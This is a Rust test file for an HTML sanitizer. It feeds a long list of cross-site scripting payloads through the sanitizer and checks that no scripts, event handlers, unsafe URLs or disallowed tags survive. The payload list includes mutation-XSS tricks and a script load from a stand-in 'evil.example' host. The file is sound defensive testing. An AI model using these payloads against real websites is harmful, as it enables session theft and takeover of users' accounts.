//! Markup that means to run, load or hide something. A body has no place for it, so that the tests
//! look at what is written of it.

use super::read;
use crate::body::{Body, Download, FileBlock, Library, PhotoBlock, Picture};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*<p>*/alert(1)//</p></script >",
    "<p onclick=alert(1)>a</p>",
    "<p/onmouseover=alert(1)>a",
    "<b onerror='alert(1)' style='background:url(javascript:alert(1))'>a</b>",
    "<body onload=alert(1)>a",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='javascript&colon;alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:alert(1)'>a</a>",
    "<a href='https://a.vn/\" onclick=\"alert(1)'>a</a>",
    "<a xlink:href='javascript:alert(1)'>a</a>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/><svg/onload=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>a</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>",
    "<noscript><p title=\"</noscript><img alt=a onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>' src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)><param name=x></object><embed src=javascript:alert(1)>",
    "<style>@import url(javascript:alert(1));</style>",
    "<style><!--</style><b title='--><script>alert(1)</script>'>a</b>",
    "<link rel=stylesheet href=javascript:alert(1)><meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'><a href='/a'>a</a>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button><input onfocus=alert(1) autofocus></form>",
    "<video onerror=alert(1)><source src=x></video><audio src=x onerror=alert(1)></audio>",
    "<details ontoggle=alert(1) open>a</details>",
    "<x-y onanimationstart=alert(1) style='animation-name:x'>a</x-y>",
    "<p data-block='x\"><script>alert(1)</script>'>a</p>",
    "<p title='a\u{0}\"><script>alert(1)</script>'>a</p>",
    "<figure data-media=media_01h455vb4pex5vsknk084sn02q data-alt='\"><script>alert(1)</script>' \
     data-caption='<img src=x onerror=alert(1)>' onclick=alert(1)></figure>",
    "<img src=media_01h455vb4pex5vsknk084sn02q alt='\" onerror=alert(1) x=\"'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<plaintext><script>alert(1)</script>",
    "<div id=location name=cookie>a</div>",
    "<figure data-file=media_01h455vb4pex5vsknk084sn02q data-title='\"><script>alert(1)</script>' \
     onclick=alert(1)><a href=javascript:alert(1)>a</a></figure>",
    "<figure data-embed=javascript:alert(1)><a href=javascript:alert(1)>a</a></figure>",
    "<figure data-embed='https://a.vn/\"onclick=\"alert(1)'>a</figure>",
    "<figure data-embed='https://a.vn/' data-title='<img src=x onerror=alert(1)>' style=x></figure>",
    "<figure data-embed='data:text/html,<script>alert(1)</script>'>a</figure>",
    "<iframe src=https://a.vn/ title='\"><script>alert(1)</script>' onload=alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe><iframe src=http://a.vn/></iframe>",
    "<figure data-gallery onclick=alert(1)><figure data-media=media_01h455vb4pex5vsknk084sn02q \
     data-alt='\"><script>alert(1)</script>'></figure><script>alert(1)</script></figure>",
    "<table onclick=alert(1) background=javascript:alert(1) data-block='\"><script>'><caption \
     onclick=alert(1)><script>alert(1)</script>a</caption><tr onclick=alert(1)><td style=x \
     onclick=alert(1)><a href=javascript:alert(1)>a</a><td colspan='\"><script>alert(1)'>b</table>",
    "<table><svg><td><script>alert(1)</script></table><table><style><td>a</style><td>b</table>",
];

/// Knows every photo and every file.
struct Shelf;

impl Library for Shelf {
    fn picture(&self, photo: &PhotoBlock) -> Option<Picture> {
        let words = |text: &Option<String>| text.clone().unwrap_or_default();
        let (alt, caption) = (words(&photo.alt), words(&photo.caption));
        Some(Picture { src: "/media/a.jpg".to_owned(), alt, caption, ..Picture::default() })
    }

    fn download(&self, file: &FileBlock) -> Option<Download> {
        let title = file.title.clone().unwrap_or_default();
        Some(Download { href: "/media/a.pdf".to_owned(), title, ..Download::default() })
    }
}

fn written(html: &str) -> String {
    let body: Body = read(html).unwrap();
    body.html(&Shelf)
}

/// The tags of HTML that is written as ours is: a bare `<` begins one, and every value is quoted.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|tag| tag.split_once('>').expect("a tag ends").0)
}

/// The tag without its values.
fn names(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

#[test]
fn nothing_of_an_attack_is_written() {
    const ELEMENTS: [&str; 28] = [
        "p",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "blockquote",
        "footer",
        "figure",
        "figcaption",
        "img",
        "span",
        "hr",
        "br",
        "a",
        "strong",
        "em",
        "s",
        "code",
        "data",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ];
    for attack in ATTACKS {
        let html = written(attack);
        for tag in tags(&html) {
            let name = tag.trim_start_matches('/').split(' ').next().unwrap();
            assert!(ELEMENTS.contains(&name), "{attack}\n{html}");
            let names = names(tag);
            let names = names.split([' ', '=']).collect::<Vec<_>>();
            let runs =
                |name: &&str| name.starts_with("on") || matches!(*name, "style" | "id" | "name");
            assert!(!names.iter().any(runs), "{attack}\n{html}");
            let leads = tag.split_once("href=\"").map(|(_, address)| address);
            let is_safe =
                |address: &str| address.starts_with(['/']) || address.starts_with("https:");
            assert!(leads.is_none_or(is_safe), "{attack}\n{html}");
        }
    }
}

#[test]
fn what_no_reader_sees_is_not_read() {
    for hidden in [
        "<script>alert</script>",
        "<style>p {}</style>",
        "<svg><text>alert</text></svg>",
        "<math><mi>alert</mi></math>",
        "<template><p>alert</p></template>",
        "<noscript>alert</noscript>",
        "<iframe>alert</iframe>",
        "<title>alert</title>",
        "<select><option>alert</option></select>",
        "<p style='display:none'>alert</p>",
        "<div hidden>alert<hr><img src=x></div>",
        "<!-- alert -->",
        "<svg/>",
    ] {
        let html = written(&format!("{hidden}<p>after</p>"));
        assert_eq!(html, "<p data-block=\"n1\">after</p>", "{hidden}");
    }
}

#[test]
fn words_that_look_like_markup_stay_words() {
    let html = written("&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;");
    assert_eq!(html, "<p data-block=\"n1\">&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;</p>");
}
